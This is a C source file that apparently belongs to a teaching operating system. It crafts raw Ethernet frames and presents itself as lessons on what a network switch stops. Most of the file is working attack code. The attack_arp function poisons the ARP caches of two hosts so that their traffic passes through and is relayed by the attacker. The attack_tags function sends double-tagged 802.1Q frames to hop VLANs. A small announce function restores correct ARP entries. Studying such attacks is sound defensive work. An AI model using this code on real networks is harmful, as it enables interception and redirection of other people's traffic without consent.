/*
 * Ethernet frames that a program makes itself, and what can be done to neighbours with them: for lessons on what a switch stops.
 *
 *    to 0 from 6 | tag of 802.1Q: 8100, VLAN | ... type | ARP (RFC 826) or IPv4 (RFC 791)
 */
#include "user.h"

enum { TYPE_TAG = 0x8100, TYPE_IPV4 = 0x0800, TYPE_ARP = 0x0806, MOST_TAGS = 4, MOST_VLAN = 4094 };
enum { IP_HEADER = 20, UDP_HEADER = 8, PROTOCOL_UDP = 17, PORT_DISCARD = 9, TIMES = 4 };
enum { ARP_ASK = 1, ARP_ANSWER = 2 };

static const uint8_t everybody[6] = {255, 255, 255, 255, 255, 255};
static const uint8_t nobody[6];

static uint8_t *put16(uint8_t *at, uint32_t value) {
  *at++ = (uint8_t)(value >> 8);
  *at++ = (uint8_t)value;
  return at;
}
static uint8_t *put32(uint8_t *at, uint32_t value) { return put16(put16(at, value >> 16), value); }
static uint8_t *put_mac(uint8_t *at, const uint8_t *mac) { return (uint8_t *)memcpy(at, mac, 6) + 6; }

static int64_t send(const uint8_t *frame, const uint8_t *end) {
  return system_call(SYS_FRAME_SEND, (uint64_t)frame, (uint64_t)(end - frame), 0, 0, 0, 0);
}

/* Tells one machine, or everybody, that `address` is at our MAC, true or not. */
static int64_t claim(const struct net_info *net, uint32_t address, uint16_t operation, const uint8_t *to_mac, uint32_t to) {
  uint8_t frame[60] = {0}, *at = put_mac(frame, operation == ARP_ASK ? everybody : to_mac);
  at = put16(put_mac(at, net->mac), TYPE_ARP);
  at = put16(put16(at, 1), TYPE_IPV4); /* Ethernet, IPv4 */
  *at++ = 6, *at++ = 4;
  at = put32(put_mac(put16(at, operation), net->mac), address);
  put32(put_mac(at, to_mac), to);
  return send(frame, frame + sizeof frame);
}

static void look(struct net_info *net) { system_call(SYS_NET_INFO, 0, (uint64_t)net, 0, 0, 0, 0); }

/* Where an address really is: it is asked with a ping, whose answer nobody waits for long. */
static bool find(uint32_t address, struct net_info *net, uint8_t *mac) {
  system_call(SYS_PING, address, 1, 0, machine()->timebase / 10, 0, 0);
  look(net);
  for (int i = 0; i < NEIGHBOURS; i++) {
    if (net->neighbours[i].address != address) continue;
    memcpy(mac, net->neighbours[i].mac, 6);
    return true;
  }
  printf("attack: %I does not answer\n", address);
  return false;
}

/* Tells everybody where we are, as when the card came up: who was told otherwise knows better again. */
int announce(int words, char **word) {
  (void)words, (void)word;
  struct net_info net;
  look(&net);
  int64_t error = net.address == 0 ? ERROR_NO_DEVICE : claim(&net, net.address, ARP_ASK, nobody, net.address);
  if (error != 0) printf("net: %s\n", error_text(error));
  return error == 0 ? 0 : 1;
}

/* Each of two machines is told that the other is here; what they send each other comes by, and goes on. */
int attack_arp(int words, char **word) {
  (void)words;
  struct net_info net;
  uint32_t address[2];
  uint8_t mac[2][6];
  for (int i = 0; i < 2; i++)
    if (!address_argument("attack", word[2 + i], &address[i]) || !find(address[i], &net, mac[i])) return 1;
  printf("attack: telling %I and %I that the other one is here\n", address[0], address[1]);
  uint64_t second = machine()->timebase, seen = 0;
  for (uint64_t next = read_time();; sleep_until(next += second)) {
    for (int i = 0; i < 2; i++) claim(&net, address[!i], ARP_ANSWER, mac[i], address[i]);
    uint64_t passed = (uint64_t)system_call(SYS_RELAY, next + 2 * second, 0, 0, 0, 0, 0);
    if (passed != seen) printf("attack: %lu packets of theirs have come by here\n", seen = passed);
  }
}

static uint16_t checksum(const uint8_t *at, size_t length) {
  uint32_t sum = 0;
  for (size_t i = 0; i < length; i += 2) sum += (uint32_t)at[i] << 8 | at[i + 1];
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

/* A UDP packet for an address, behind tags of our own making, to everybody: who takes a tag off may send it where we are not. */
int attack_tags(int words, char **word) {
  (void)words;
  struct net_info net;
  uint32_t address;
  uint8_t frame[60] = {0}, *at = put_mac(frame, everybody);
  look(&net);
  at = put_mac(at, net.mac);
  const char *rest = word[2];
  for (int tags = 0; tags < MOST_TAGS; tags++) {
    uint64_t vlan;
    rest = parse_number(rest, &vlan);
    if (rest == NULL || vlan > MOST_VLAN) break;
    at = put16(put16(at, TYPE_TAG), (uint32_t)vlan);
    if (*rest++ != ',') break;
  }
  if (rest == NULL || rest[-1] != 0) return usage("attack");
  if (!address_argument("attack", word[3], &address)) return 1;
  uint8_t *ip = at = put16(at, TYPE_IPV4);
  at = put32(put16(put16(at, 0x4500), IP_HEADER + UDP_HEADER), 0);
  at = put32(put32(put32(at, 64 << 24 | PROTOCOL_UDP << 16), net.address), address);
  put16(ip + 10, checksum(ip, IP_HEADER));
  put32(put16(put16(at, PORT_DISCARD), PORT_DISCARD), UDP_HEADER << 16);
  for (int i = 0; i < TIMES; i++) {
    int64_t error = send(frame, frame + sizeof frame);
    if (error != 0) {
      printf("attack: %s\n", error_text(error));
      return 1;
    }
  }
  printf("attack: %d packets for %I sent behind tags %s\n", TIMES, address, word[2]);
  return 0;
}
